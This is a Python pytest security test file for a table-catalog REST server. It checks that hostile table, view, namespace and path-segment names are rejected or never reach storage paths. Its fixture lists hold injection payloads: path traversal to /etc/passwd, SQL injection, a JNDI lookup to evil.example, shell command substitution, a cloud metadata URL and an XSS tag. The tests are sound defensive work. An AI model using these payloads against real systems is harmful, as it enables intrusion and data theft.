"""Hostile names are refused before storage is asked, or taken without a trace of them in a path.

Any name may be in use somewhere (engines quote them), so most are taken; what must never happen is that
a character of a name means something to a path, a policy or a query.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.harness.rest import SCHEMA, identified
from tests.security.answers import is_error
from tests.security.entry_points import Lake

# Only these may stand in a location that the server makes.
PLAIN = re.compile(r"[A-Za-z0-9_./:-]+").fullmatch

REFUSED: dict[str, Any] = {
    "empty": "",
    "dot": ".",
    "dots": "..",
    "nul": "a\x00b",
    "unit separator": "a\x1fb",
    "line feed": "a\nb",
    "carriage return": "a\r\nX: y",
    "escape": "a\x1b[2J",
    "delete": "a\x7f",
    "next line": "a\u0085b",
    "line separator": "a\u2028b",
    "not composed": "e\u0301",
    "Angstrom sign": "\u212b",
    "too long": "a" * 256,
    "too long in UTF-8": "ü" * 128,
    "number": 7,
    "list": ["a"],
    "object": {"a": "b"},
    "boolean": True,
}
TAKEN: dict[str, str] = {
    "slash": "a/b",
    "parent": "../../etc/passwd",
    "parent behind a name": "t/../../../evil",
    "backslash": "..\\..\\evil",
    "encoded parent": "%2e%2e%2fevil",
    "encoded slash": "a%2Fb",
    "encoded nul": "a%00b",
    "absolute": "/etc/passwd",
    "address": "s3://evil/x",
    "metadata service": "http://169.254.169.254/",
    "file address": "file:///etc/passwd",
    "star": "*",
    "stars": "*.*",
    "question mark": "a?acl",
    "fragment": "a#b",
    "quote": "a' OR '1'='1",
    "statement": "a'; DROP TABLE entries; --",
    "double quote": 'a"b',
    "backtick": "`id`",
    "dollar": "${jndi:ldap://evil.example/x}",
    "shell": "$(touch evil)",
    "percent": "100%",
    "plus": "a+b",
    "space": " a ",
    "semicolon": "a;b",
    "ampersand": "a&b=c",
    "at": "a@b",
    "tilde": "~x",
    "hidden": ".ssh",
    "dash": "--help",
    "route": "rename",
    "config": "config",
    "null word": "null",
    "script": "<script>alert(1)</script>",
    "like pattern": "%_%",
    "zero width": "a\u200bb",
    "right to left": "a\u202eb",
    "fullwidth dots": "\uff0e\uff0e",
    "emoji": "🧊" * 10,
    "capitals": "T",
    "look-alike": "\u0430dmin",
    "long": "ü" * 127,
    "reserved file": "CON",
    "probe": ".calve-probe",
}

Way = Callable[[Lake, Any], httpx.Response]


def _rename(lake: Lake, name: Any, what: str = "tables") -> httpx.Response:
    source = lake.fresh()
    if what == "tables":
        lake.rest.create(lake.namespace, source)
    else:
        lake.rest.ok("POST", lake.views, json=lake.view_body(source))
    body = {
        "source": {"namespace": [lake.namespace], "name": source},
        "destination": {"namespace": [lake.namespace], "name": name},
    }
    return lake.rest.call("POST", lake.rest.path(f"{what}/rename"), json=body)


def _transaction(lake: Lake, name: Any) -> httpx.Response:
    """A commit that makes a table of this name, inside `transactions/commit`."""
    updates = [
        {"action": "assign-uuid", "uuid": str(uuid.uuid4())},
        {"action": "add-schema", "schema": SCHEMA, "last-column-id": 2},
        {"action": "set-current-schema", "schema-id": -1},
        {"action": "add-spec", "spec": {"spec-id": 0, "fields": []}},
        {"action": "set-default-spec", "spec-id": -1},
        {"action": "add-sort-order", "sort-order": {"order-id": 0, "fields": []}},
        {"action": "set-default-sort-order", "sort-order-id": -1},
        {"action": "set-location", "location": lake.good()},
    ]
    change = identified(
        lake.namespace, name, {"requirements": [{"type": "assert-create"}], "updates": updates}
    )
    return lake.rest.call("POST", lake.rest.path("transactions/commit"), json={"table-changes": [change]})


WAYS: dict[str, Way] = {
    "create a namespace": lambda lake, name: lake.rest.call(
        "POST", lake.rest.path("namespaces"), json={"namespace": [name]}
    ),
    "create a namespace below": lambda lake, name: lake.rest.call(
        "POST", lake.rest.path("namespaces"), json={"namespace": [lake.namespace, name]}
    ),
    "create": lambda lake, name: lake.rest.call(
        "POST", lake.rest.namespace_path(lake.namespace, "tables"), json={"name": name, "schema": SCHEMA}
    ),
    "stage": lambda lake, name: lake.rest.call(
        "POST",
        lake.rest.namespace_path(lake.namespace, "tables"),
        json={"name": name, "schema": SCHEMA, "stage-create": True},
    ),
    "register": lambda lake, name: lake.rest.call(
        "POST",
        lake.rest.namespace_path(lake.namespace, "register"),
        json={"name": name, "metadata-location": lake.plant(lake.document())},
    ),
    "create a view": lambda lake, name: lake.rest.call("POST", lake.views, json=lake.view_body(name)),
    "register-view": lambda lake, name: lake.rest.call(
        "POST",
        lake.rest.namespace_path(lake.namespace, "register-view"),
        json={"name": name, "metadata-location": lake.plant(lake.view_document())},
    ),
    "rename": _rename,
    "rename a view": lambda lake, name: _rename(lake, name, "views"),
    "transactions/commit": _transaction,
}
RENAMES = ("rename", "rename a view")


@pytest.mark.parametrize("way", WAYS)
def test_a_name_that_cannot_be_is_refused_before_storage_is_asked(recorded: Lake, way: str) -> None:
    wrong = []
    for label, name in REFUSED.items():
        mark = recorded.server.files.mark()
        answer = WAYS[way](recorded, name)
        # The renames make something to rename first.
        asked = [call for call in recorded.server.files.calls_since(mark) if way not in RENAMES]
        if answer.status_code != 400 or not is_error(answer) or asked:
            wrong.append((label, answer.status_code, answer.text[:200], asked))
    assert not wrong


@pytest.mark.parametrize("way", WAYS)
def test_any_other_name_leaves_no_trace_in_a_path(recorded: Lake, way: str) -> None:
    wrong = []
    for label, name in TAKEN.items():
        recorded.namespace = recorded.rest.fresh_namespace()  # each name is free for each way
        mark = recorded.server.files.mark()
        answer = WAYS[way](recorded, name)
        places = [location for _, location in recorded.server.files.calls_since(mark)]
        if answer.status_code not in (200, 204, 409) or not all(PLAIN(place) for place in places):
            wrong.append((label, answer.status_code, answer.text[:200], places))
        if not all(place.startswith(recorded.root + "/") for place in places):
            wrong.append((label, answer.status_code, "outside", places))
    assert not wrong


def test_a_hostile_namespace_leaves_no_trace_in_a_path_either(recorded: Lake) -> None:
    wrong = []
    for label, name in TAKEN.items():
        levels = [recorded.rest.fresh_namespace(), name]
        recorded.rest.ok("POST", recorded.rest.path("namespaces"), json={"namespace": levels})
        made = recorded.rest.create(levels, name)
        if not PLAIN(made["metadata-location"]) or not made["metadata-location"].startswith(
            recorded.root + "/"
        ):
            wrong.append((label, made["metadata-location"]))
        if recorded.rest.load(levels, name) != made or recorded.rest.tables(levels) != [name]:
            wrong.append((label, "is not found again"))
    assert not wrong


# Names in a path: every one of them is refused, or not found; none is taken for another.
RAW_SEGMENTS = {
    "..": (400, 404),
    ".": (400, 404),
    "%2e%2e": (400,),
    "%2E": (400,),
    "%00": (400,),
    "t%00": (400,),
    "%1F": (400,),
    "t%0a": (400,),
    "%ff": (400,),
    "%c0%ae%c0%ae": (400,),
    "%ed%a0%80": (400,),
    "%": (400,),
    "%zz": (400,),
    "t%": (400,),
    "%u0041": (400,),
    "e%CC%81": (400,),
    "%2e%2e%2ft": (404,),
    "%252e%252e": (404,),
    "T": (404,),
    "t%20": (404,),
    "t;x=1": (404,),
    "a" * 256: (400,),
    "a" * 5000: (400,),
}


@pytest.mark.parametrize(
    "path",
    [
        "/v1/main/namespaces/NS/tables/{}",
        "/v1/main/namespaces/NS/views/{}",
        "/v1/main/namespaces/NS%1F{}/tables",
        "/lake/v1/main/namespaces/NS/tables/{}/protection",
        "/lake/v1/main/namespaces/NS%1F{}/tables/t/metrics",
    ],
)
def test_a_hostile_segment_of_a_path_is_refused_or_not_found(recorded: Lake, path: str) -> None:
    wrong = []
    namespace = recorded.rest.fresh_namespace()
    recorded.rest.create(namespace, "t")
    for segment, statuses in RAW_SEGMENTS.items():
        asked = path.replace("NS", namespace).format(segment)
        answer = recorded.rest.call("GET", "/x", **_raw(asked))
        if answer.status_code not in statuses or not is_error(answer):
            wrong.append((asked[:100], answer.status_code, answer.text[:200]))
    assert not wrong


def _raw(path: str) -> dict[str, Any]:
    """The path as it goes over the wire: a client library would tidy `..` away."""
    return {"extensions": {"target": path.encode()}}


@pytest.mark.parametrize(
    "prefix", ["..", "%2e%2e", "main%2f..", "main%00", "main@", "main@x", "main~", "main~%2e%2e"]
)
def test_a_hostile_prefix_is_refused_or_not_found(recorded: Lake, prefix: str) -> None:
    for path in (
        f"/v1/{prefix}/namespaces",
        f"/lake/v1/{prefix}/events",
        f"/v1/config?warehouse={quote(prefix)}",
    ):
        answer = recorded.rest.call("GET", "/x", **_raw(path))
        assert answer.status_code in (400, 404), (path, answer.text)
        assert is_error(answer), (path, answer.text)
